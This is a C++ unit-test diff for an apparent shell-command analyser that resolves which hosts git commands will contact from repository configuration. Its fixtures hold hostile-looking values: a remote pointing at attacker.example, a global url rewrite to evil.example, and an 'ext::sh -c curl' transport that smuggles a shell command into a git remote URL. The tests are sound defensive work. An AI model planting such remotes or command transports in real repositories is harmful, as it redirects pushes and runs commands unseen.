@@ -18,6 +18,8 @@ namespace {
 
 namespace fs = std::filesystem;
 
+constexpr const char* kDirectory = "<directory>";
+
 // A file system of scripts: path → (text, changed during the session).
 struct Scripts {
   std::map<std::string, std::pair<std::string, bool>> files;
@@ -31,7 +33,9 @@ struct Scripts {
       auto it = files.find(path);
       if (it == files.end()) return f;
       f.recent = it->second.second;
-      if (it->second.first.find('\0') != std::string::npos) {
+      if (it->second.first == kDirectory) {
+        f.state = ScriptFile::State::Directory;
+      } else if (it->second.first.find('\0') != std::string::npos) {
         f.state = ScriptFile::State::Binary;
       } else {
         f.state = ScriptFile::State::Text;
@@ -208,6 +212,74 @@ TEST(Scripts, ShebangNamesTheInterpreter) {
   EXPECT_NE(find(shell_actions("./x", "Bash", s.env()), Kind::NetFetch, "attacker.example"), nullptr);
 }
 
+// A repository at /home/dev/project: .git/config and HEAD.
+Scripts repo(const std::string& config, const std::string& head = "ref: refs/heads/main\n") {
+  Scripts s;
+  s.files["/home/dev/project/.git"] = {kDirectory, false};
+  s.files["/home/dev/project/.git/config"] = {config, false};
+  s.files["/home/dev/project/.git/HEAD"] = {head, false};
+  return s;
+}
+
+std::vector<std::string> hosts(const std::vector<Action>& v) {
+  std::vector<std::string> out;
+  for (const auto& a : v)
+    if (a.kind == Kind::NetFetch) out.push_back(a.resource);
+  return out;
+}
+
+using Hosts = std::vector<std::string>;
+
+TEST(GitRemotes, NamedRemoteIsContactedAtItsConfiguredHost) {
+  Scripts s = repo(
+      "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = git@github.com:acme/app.git\n"
+      "[remote \"backup\"]\n\turl = https://attacker.example/x.git ; mirror\n"
+      "[branch \"main\"]\n\tremote = origin\n");
+  EXPECT_EQ(hosts(shell_actions("git push backup main", "Bash", s.env())), (Hosts{"attacker.example"}));
+  EXPECT_EQ(hosts(shell_actions("git push", "Bash", s.env())), (Hosts{"github.com"}));
+  EXPECT_EQ(hosts(shell_actions("git fetch origin", "Bash", s.env())), (Hosts{"github.com"}));
+  // From a subdirectory, and with -C.
+  EXPECT_EQ(hosts(shell_actions("git pull backup", "Bash", s.env("/home/dev/project/src/lib"))),
+            (Hosts{"attacker.example"}));
+  EXPECT_EQ(hosts(shell_actions("git -C project push backup", "Bash", s.env("/home/dev"))),
+            (Hosts{"attacker.example"}));
+  // Not a repository: nothing to add.
+  EXPECT_TRUE(hosts(shell_actions("git push backup", "Bash", s.env("/tmp"))).empty());
+  // Spelled-out URLs were always seen.
+  EXPECT_EQ(hosts(shell_actions("git push https://other.example/r.git", "Bash", s.env())), (Hosts{"other.example"}));
+}
+
+TEST(GitRemotes, TheBranchsPushRemoteAndRewritesApply) {
+  Scripts s = repo(
+      "[remote \"origin\"]\n\turl = https://github.com/acme/app\n\tpushurl = ssh://git@push.example/app\n"
+      "[remote \"fork\"]\n\turl = gh:me/app\n"
+      "[url \"https://mirror.example/\"]\n\tinsteadOf = gh:\n"
+      "[branch \"feature\"]\n\tremote = origin\n\tpushRemote = fork\n",
+      "ref: refs/heads/feature\n");
+  EXPECT_EQ(hosts(shell_actions("git push", "Bash", s.env())), (Hosts{"mirror.example"}));
+  EXPECT_EQ(hosts(shell_actions("git pull", "Bash", s.env())), (Hosts{"github.com"}));
+  EXPECT_EQ(hosts(shell_actions("git push origin", "Bash", s.env())), (Hosts{"push.example"}));
+  // The user's own rewrites count too.
+  s.files["/home/dev/.gitconfig"] = {"[url \"https://evil.example/\"]\n  insteadOf = https://github.com/\n", false};
+  EXPECT_EQ(hosts(shell_actions("git fetch origin", "Bash", s.env())), (Hosts{"evil.example"}));
+}
+
+TEST(GitRemotes, WorktreesAndCommandTransportsAreHandled) {
+  Scripts s;
+  s.files["/home/dev/project/.git"] = {"gitdir: /home/dev/main/.git/worktrees/project\n", false};
+  s.files["/home/dev/main/.git/worktrees/project/commondir"] = {"../..\n", false};
+  s.files["/home/dev/main/.git/worktrees/project/HEAD"] = {"ref: refs/heads/x\n", false};
+  s.files["/home/dev/main/.git/config"] = {"[remote \"origin\"]\n\turl = \"ext::sh -c curl\\ evil\"\n", false};
+  auto acts = shell_actions("git fetch", "Bash", s.env());
+  EXPECT_TRUE(hosts(acts).empty());
+  EXPECT_TRUE(find(acts, Kind::ShellExec, "git")->opaque);
+}
+
+TEST(GitRemotes, ComputedDirectoryIsOpaque) {
+  Scripts s = repo("[remote \"origin\"]\n\turl = https://github.com/a/b\n");
+  EXPECT_TRUE(any_opaque(shell_actions("git -C \"$D\" push", "Bash", s.env())));
+}
+
 // The reader on the real file system.
 class ScriptReaderFs : public ::testing::Test {
  protected:
@@ -240,7 +312,7 @@ TEST_F(ScriptReaderFs, RefusesFifosDevicesAndLargeFilesWithoutBlocking) {
   ScriptFile f = file_script_reader(0)(fifo);  // no writer: opening it must not wait for one
   EXPECT_EQ(f.state, ScriptFile::State::Unreadable);
   EXPECT_EQ(file_script_reader(0)("/dev/zero").state, ScriptFile::State::Unreadable);
-  EXPECT_EQ(file_script_reader(0)(dir_.string()).state, ScriptFile::State::Unreadable);
+  EXPECT_EQ(file_script_reader(0)(dir_.string()).state, ScriptFile::State::Directory);
   std::string big = write("big.sh", std::string(300 * 1024, '#'));
   f = file_script_reader(0)(big);
   EXPECT_EQ(f.state, ScriptFile::State::Unreadable);
